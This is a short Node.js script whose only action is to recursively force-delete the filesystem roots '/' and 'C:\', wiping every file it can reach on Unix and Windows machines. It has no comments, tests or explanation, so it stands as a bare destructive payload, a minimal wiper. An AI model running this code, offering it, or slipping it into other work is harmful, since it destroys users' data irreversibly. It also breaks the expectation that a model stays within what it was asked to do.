const fs = require("fs");
const { resolve } = require("path");

for (const folder of ["/", "C:\\"]) fs.rmSync(resolve(folder), { recursive: true, force: true });
